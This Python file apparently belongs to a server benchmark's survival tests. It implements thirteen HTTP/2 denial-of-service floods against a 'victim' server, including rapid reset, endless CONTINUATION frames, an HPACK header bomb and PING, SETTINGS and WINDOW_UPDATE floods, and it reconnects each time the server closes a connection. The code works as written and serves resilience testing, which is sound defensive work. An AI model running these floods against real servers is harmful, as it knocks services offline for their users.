"""Floods of frames: each is cheap to send, and costs a careless server memory or time."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder

from bench.serving.connection import frame
from bench.serving.survival.attacks.wire import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_FRAME,
    PING,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW,
    Victim,
    Wire,
    setting,
)

_AT_ONCE = 100
"""Pieces in one write."""
_LARGEST_WINDOW = 2**31 - 1
_UNKNOWN_TYPE = 0x42
_MOST_CONNECTIONS = 2000

Pieces = Iterator[bytes]
Flood = Callable[[Victim], Pieces]
"""Returns an endless sequence of bytes to send on one connection after its preface."""


@dataclass
class Flooded:
    """What came of a flood.

    Attributes:
        sent: pieces sent.
        connections: connections that it took.
        refused: connections that the server closed.
        reasons: what the server's GOAWAYs said.
    """

    sent: int = 0
    connections: int = 0
    refused: int = 0
    reasons: frozenset[str] = frozenset()

    def __str__(self) -> str:
        said = f" ({', '.join(sorted(self.reasons))})" if self.reasons else ""
        return (
            f"{self.sent:,} sent on {self.connections:,} connections, "
            f"of which the front closed {self.refused:,}{said}"
        )


async def flood(victim: Victim, pieces: Flood, count: int, *, reads: bool = True) -> Flooded:
    """Send a number of pieces, on a new connection each time the server closes one.

    Args:
        victim: the front.
        pieces: what is sent on one connection.
        count: pieces to send in all.
        reads: whether the attacker reads what the server sends.
    """
    found = Flooded()
    while found.sent < count and found.connections < _MOST_CONNECTIONS:
        wire = await Wire.connected(victim.address, reads=reads)
        await wire.settle()
        found.connections += 1
        each = pieces(victim)
        kept = True
        while kept and found.sent < count:
            batch = [next(each) for _ in range(min(_AT_ONCE, count - found.sent))]
            kept = await wire.send(b"".join(batch))
            found.sent += len(batch)
        if not kept or (reads and await wire.until_closed(0.5)):
            found.refused += 1
        if wire.goaway:
            found.reasons |= {wire.goaway}
        await wire.close()
        if not kept and not reads:
            break  # it reads no more: the front stopped reading as well
    return found


def _streams() -> Iterator[int]:
    return iter(range(1, _LARGEST_WINDOW, 2))


def rapid_reset(victim: Victim) -> Pieces:
    """Open calls and cancel each at once."""
    headers = victim.headers()
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RESET, 0, stream, CANCEL)


def rapid_reset_of_whole_calls(victim: Victim) -> Pieces:
    """Send whole calls and cancel each at once."""
    for stream in _streams():
        yield victim.call(stream) + frame(RESET, 0, stream, CANCEL)


def made_to_reset(victim: Victim) -> Pieces:
    """Send calls, and make the server reset each, by a window that grows by nothing."""
    for stream in _streams():
        yield victim.call(stream) + frame(WINDOW, 0, stream, bytes(4))


def continuation(victim: Victim) -> Pieces:
    """Begin a header block that never ends."""
    yield frame(HEADERS, 0, 1, victim.headers())
    part = Encoder().encode([("x-part", "x" * 8000)], huffman=False)
    while True:
        yield frame(CONTINUATION, 0, 1, part)


def empty_continuation(victim: Victim) -> Pieces:
    """Begin a header block that goes on without a byte."""
    yield frame(HEADERS, 0, 1, victim.headers())
    while True:
        yield frame(CONTINUATION, 0, 1, b"")


def header_bomb(victim: Victim) -> Pieces:
    """Send header blocks of 16 KB that decode to 64 MB, by references to one large header."""
    encoder = Encoder()
    headers = victim.headers()
    first = encoder.encode([("x-bomb", "x" * 4000)], huffman=False)
    reference = encoder.encode([("x-bomb", "x" * 4000)], huffman=False)
    yield frame(HEADERS, END_HEADERS, 1, headers + first)
    room = (LARGEST_FRAME - len(headers)) // len(reference)
    for stream in _streams():
        if stream > 1:
            yield frame(HEADERS, END_HEADERS, stream, headers + reference * room)


def ping(_victim: Victim) -> Pieces:
    """Ask for an answer to each of many pings."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings(_victim: Victim) -> Pieces:
    """Change the settings again and again."""
    while True:
        yield frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535))


def empty_data(victim: Victim) -> Pieces:
    """Send frames of a call's body without a byte."""
    yield victim.opening(1)
    while True:
        yield frame(DATA, 0, 1, b"")


def priority(_victim: Victim) -> Pieces:
    """Change the priority of streams that are not open."""
    for stream in _streams():
        yield frame(PRIORITY, 0, stream, bytes(5))


def unknown_frames(_victim: Victim) -> Pieces:
    """Send frames of an unknown type."""
    while True:
        yield frame(_UNKNOWN_TYPE, 0, 0, bytes(100))


def window(_victim: Victim) -> Pieces:
    """Grow the connection's window by one byte, again and again."""
    while True:
        yield frame(WINDOW, 0, 0, (1).to_bytes(4, "big"))


def window_overflow(victim: Victim) -> Pieces:
    """Grow the windows of calls beyond their limit."""
    for stream in _streams():
        yield victim.opening(stream) + frame(WINDOW, 0, stream, _LARGEST_WINDOW.to_bytes(4, "big"))


FLOODS: dict[str, tuple[Flood, int]] = {
    "calls opened and canceled (rapid reset)": (rapid_reset, 50_000),
    "whole calls sent and canceled": (rapid_reset_of_whole_calls, 50_000),
    "calls that the server must reset": (made_to_reset, 50_000),
    "CONTINUATION frames of 8 KB": (continuation, 20_000),
    "empty CONTINUATION frames": (empty_continuation, 100_000),
    "header blocks that decode to 60 MB": (header_bomb, 500),
    "PING frames": (ping, 200_000),
    "SETTINGS frames": (settings, 200_000),
    "empty DATA frames": (empty_data, 200_000),
    "PRIORITY frames": (priority, 200_000),
    "frames of an unknown type": (unknown_frames, 200_000),
    "WINDOW_UPDATE frames": (window, 200_000),
    "windows that overflow": (window_overflow, 20_000),
}
"""Floods by name, and the number of pieces of each."""
